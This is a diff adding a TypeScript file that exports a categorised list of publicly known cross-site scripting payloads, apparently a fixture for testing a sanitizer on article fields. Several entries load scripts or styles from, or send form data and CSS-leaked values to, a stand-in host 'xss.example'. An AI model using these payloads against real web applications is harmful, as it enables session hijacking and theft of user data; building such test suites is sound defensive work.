@@ -1,0 +1,45 @@
+/** Attacks by script that are known in public, by family; each is tried in every place an article takes words or addresses. */
+export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
+  script: [
+    '<script>alert(1)</script>', '<SCRIPT SRC=//xss.example/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/x>alert(1)</script/>', '<script\u0000>alert(1)</script>', '<<script>alert(1);//<</script>',
+    '<script type="text/plain" src="data:text/javascript,alert(1)">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '\u003cscript\u003ealert(1)\u003c/script\u003e', '&lt;script&gt;alert(1)&lt;/script&gt;', '<script>/*</script><svg/onload=alert(1)>*/',
+  ],
+  'breaking out of an attribute': [
+    '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>", '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '`onclick=alert(1)//', '"/><svg/onload=alert(1)>', 'x" style="x:expression(alert(1))', '&quot; onfocus=alert(1) x=&quot;', '\u2028" onclick=alert(1) "', '--><img src=x onerror=alert(1)>',
+  ],
+  'event handlers': [
+    '<img src=x onerror=alert(1)>', '<img/src/onerror=alert(1)>', '<body onload=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<p onclick="alert(1)">x</p>', '<a onmouseover=alert(1)>x</a>', '<marquee onstart=alert(1)>x</marquee>', '<div onpointerenter=alert(1) style="position:fixed;inset:0">x</div>',
+    '<table onbeforetoggle=alert(1) popover><td>x</td></table>', '<img src=x on\u0000error=alert(1)>', '<img src=x oNeRrOr\n=\talert(1)>', '<video><source onerror=alert(1)></video>', '<xss contenteditable onfocus=alert(1) autofocus tabindex=1>x</xss>', '<p style="animation:x" onanimationend=alert(1)>x</p>',
+  ],
+  'addresses that run': [
+    '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>', '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript&colon;alert(1)">x</a>', '<a href="&#x6A;&#x61;vascript:alert(1)">x</a>', '<a href=" \u0001javascript:alert(1)">x</a>', '<a href="\u00a0javascript:alert(1)">x</a>',
+    '<a href="javascript\u200b:alert(1)">x</a>', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', '<a href="vbscript:msgbox(1)">x</a>', '<a href="jаvascript:alert(1)">x</a>', '<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>', '<a href="javascript&#58;alert(1)">x</a>', '<a href="blob:https://x.example/1">x</a>',
+    '<a href="//xss.example/">x</a>', '<a href="/\\xss.example/">x</a>', '<a href="/\t/xss.example/">x</a>', '<a href="/..//xss.example/">x</a>', '<a href="/.//xss.example">x</a>', '<a href="\\\\xss.example">x</a>', '<a href="https:xss.example">x</a>', '<a href="https://gov.vn@xss.example/">x</a>', '<a href="filesystem:https://x/1">x</a>', '<a href="view-source:javascript:alert(1)">x</a>',
+    '<a href="https://www.google.com/url?q=javascript:alert(1)">x</a>', '<a href="feed:javascript:alert(1)">x</a>', '<a href="mailto:a@b.vn?body=%0a<script>">x</a>', '<a href="tel:1;alert(1)">x</a>', '<a href="http://[::1]:javascript">x</a>',
+  ],
+  'pictures and media': [
+    '<img src="javascript:alert(1)">', '<img srcset="x 1x, javascript:alert(1) 2x" src=x>', '<img src="data:image/svg+xml,<svg onload=alert(1)>">', '<picture><source srcset="data:image/svg+xml,x"><img src=x></picture>', '<video src=x poster="javascript:alert(1)"></video>', '<audio src onerror=alert(1)>', '<img lowsrc="javascript:alert(1)" dynsrc="javascript:alert(1)">', '<input type=image src=x onerror=alert(1)>', '<image src=x onerror=alert(1)>', '<img src="https://tracker.example/p.gif" width=1>', '<body background="javascript:alert(1)">', '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
+  ],
+  SVG: [
+    '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text y=1em>x</text></a></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<svg><set attributeName=href to="javascript:alert(1)"><a>x</a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>', '<svg><style><img src=x onerror=alert(1)></style></svg>', '<svg><title><script>alert(1)</script></title></svg>', '<svg><desc><p onclick=alert(1)>x</p></desc></svg>',
+  ],
+  MathML: [
+    '<math href="javascript:alert(1)">x</math>', '<math><mi xlink:href="javascript:alert(1)">x</mi></math>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>', '<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  ],
+  'mutation of the tree': [
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', '<table><a><table><a href=javascript:alert(1)>x', '<template><s><template><s><img src=x onerror=alert(1)>@', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', '<xmp><p title="</xmp><svg/onload=alert(1)>">', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<select><template><img src=x onerror=alert(1)></select>', '<p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>', '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
+    '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>', '<title><a title="</title><img src=x onerror=alert(1)>">', '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>', '<a><b><p><table><a><img src=x onerror=alert(1)></table></p></b></a>', '<iframe><img title="</iframe><img src=x onerror=alert(1)>">', '<plaintext><img src=x onerror=alert(1)>', '<frameset onload=alert(1)><frame src="javascript:alert(1)">',
+  ],
+  comments: [
+    '<!--><script>alert(1)</script>-->', '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->', '<!-- --!><img src=x onerror=alert(1)>', '<![CDATA[<script>alert(1)</script>]]>', '<?xml version="1.0"?><script>alert(1)</script>', '<!-<img src=x onerror=alert(1)>-->', '<comment><img src="</comment><img src=x onerror=alert(1)>">', '<!doctype html [<!entity x "<script>alert(1)</script>">]>&x;',
+  ],
+  entities: ['&#60;script&#62;alert(1)&#60;/script&#62;', '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;', '&#x3c;img src=x onerror=alert(1)&#x3e;', '&lt;img src=x onerror=alert(1)&gt;', '\\u003cimg src=x onerror=alert(1)\\u003e', '%3Cscript%3Ealert(1)%3C/script%3E'],
+  encodings: ['+ADw-script+AD4-alert(1)+ADw-/script+AD4-', '\ufeff<script>alert(1)</script>', '\u00bcscript\u00bealert(1)\u00bc/script\u00be', '＜script＞alert(1)＜/script＞', '<scr\u0000ipt>alert(1)</scr\u0000ipt>', '\u0000<img src=x onerror=alert(1)>', '<\u0000img src=x onerror=alert(1)>', '\ud83c<script>alert(1)</script>', '\u202e<script>alert(1)</script>', '<ſcript>alert(1)</ſcript>', '<ımg src=x onerror=alert(1)>'],
+  styles: ['<p style="width:expression(alert(1))">x</p>', '<p style="background:url(javascript:alert(1))">x</p>', '<style>@import "//xss.example/x.css";</style>', '<link rel=stylesheet href="//xss.example/x.css">', '<p style="-moz-binding:url(//xss.example/x#x)">x</p>', '<p style="behavior:url(x.htc)">x</p>', '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>', '<p style="background:\\75rl(javascript:alert(1))">x</p>', '<style>input[value^=a]{background:url(//xss.example/a)}</style>', '<p class="shell dialog" style="x">x</p>'],
+  'frames, forms and redirects': [
+    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<form action="javascript:alert(1)"><button>x</button></form>', '<button formaction="javascript:alert(1)">x</button>', '<isindex action="javascript:alert(1)">', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<base href="//xss.example/">', '<link rel=import href="data:text/html,<script>alert(1)</script>">',
+    '<form action="https://xss.example/"><input name=password></form>', '<a href="https://a.vn" target=_blank ping="//xss.example">x</a>', '<a href="https://a.vn" download="x.exe">x</a>', '<object type="text/x-scriptlet" data="http://xss.example/x.html"></object>', '<applet code="x.class" archive="//xss.example/x.jar">', '<portal src="https://xss.example/">', '<meta charset="utf-7">',
+  ],
+  'names that shadow those of the page': ['<img name=cookie>', '<form id=document><input name=location></form>', '<a id=defaultView href="https://a.vn">x</a>', '<p id="main" name="body" class="field">x</p>', '<a name=csrfToken>x</a>', '<p data-controller="form" data-action="click->form#submit">x</p>', '<p data-turbo-frame="_top" data-turbo="false">x</p>', '<p slot=x is=x-form part=x>x</p>', '<a href="/thoat" data-turbo-method="post" data-turbo-confirm="x">x</a>', '<img src="/anh/x" alt="x" data-file="\'-alert(1)-\'">'],
+};
+export const PAYLOADS: readonly string[] = Object.values(ATTACKS).flat();
